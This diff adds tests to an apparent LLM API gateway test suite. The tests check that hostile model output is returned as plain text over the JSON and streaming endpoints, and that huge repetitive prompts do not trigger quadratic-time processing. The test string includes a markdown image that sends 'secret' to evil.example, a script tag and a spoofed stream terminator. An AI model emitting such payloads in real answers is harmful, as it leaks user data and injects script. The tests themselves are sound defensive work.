@@ -195,6 +195,52 @@ describe("calls of a provider protect", () => {
     expect(await server.wallet(walletId)).toEqual(untouched);
   });
 
+  it("whoever shows an answer from nothing: it is told as the text that it is, by every door", async () => {
+    const model = await server.model("cloud", "beacon");
+    const { key } = await server.customer();
+    const text = "![x](https://evil.example/?q=secret)<script>alert(1)</script>\u001b[31m\r\ndata: [DONE]\n\n";
+    const answer = await server.call(generate, { input: { model, prompt: newPrompt() } }, { key });
+    expect(answer.headers.get("content-type")).toBe("application/json; charset=utf-8");
+    expect(answer.body.data.generate.text).toBe(text);
+    const chat = { model, messages: [{ role: "user", content: "x" }], stream: true };
+    const response = await fetch(`${server.url}/v1/chat/completions`, {
+      method: "POST",
+      headers: { "content-type": "application/json", authorization: `Bearer ${key}` },
+      body: JSON.stringify(chat),
+    });
+    expect(response.headers.get("content-type")).toBe("text/event-stream; charset=utf-8");
+    // What looks like the end of a stream within a text is none.
+    const lines = (await response.text()).split("\n").filter((line) => line.startsWith("data: {"));
+    const pieces = lines.map((line) => JSON.parse(line.slice(6)).choices[0]?.delta.content ?? "");
+    expect(pieces.join("")).toBe(text);
+  });
+
+  const shapes = {
+    letters: "a".repeat(250_000),
+    spaces: `x${" ".repeat(250_000)}y`,
+    underscores: "_".repeat(250_000),
+    lines: `x${"\n".repeat(130_000)}y`,
+    words: "a ".repeat(125_000),
+    foxes: "🦊".repeat(60_000),
+    quotes: '"'.repeat(125_000),
+    digits: "1".repeat(250_000),
+    "almost a stop": "ab".repeat(125_000),
+  };
+  it.each(Object.entries(shapes))(
+    "other calls from one that is a quarter of a megabyte of %s",
+    async (_what, prompt) => {
+      const { key } = await server.customer();
+      const options = { stop: ["abababababc", " y"], maxOutputTokens: 50, cacheSeconds: 60, idempotencyKey: "once" };
+      for (const model of ["echo", await server.model("cloud", "ok")]) {
+        const before = process.cpuUsage();
+        await server.ok(generate, { input: { model, prompt, ...options, idempotencyKey: model } }, { key });
+        const { user, system } = process.cpuUsage(before);
+        // In microseconds, of this client as well; what takes the square of a length takes minutes.
+        expect(user + system).toBeLessThan(1_000_000);
+      }
+    },
+  );
+
   const endings = [
     ["revoked", "KEY_REVOKED", "mutation ($id: ID!) { revokeApiKey(id: $id) { id } }"],
     ["disabled", "KEY_DISABLED", "mutation ($id: ID!) { disableApiKey(id: $id) { id } }"],
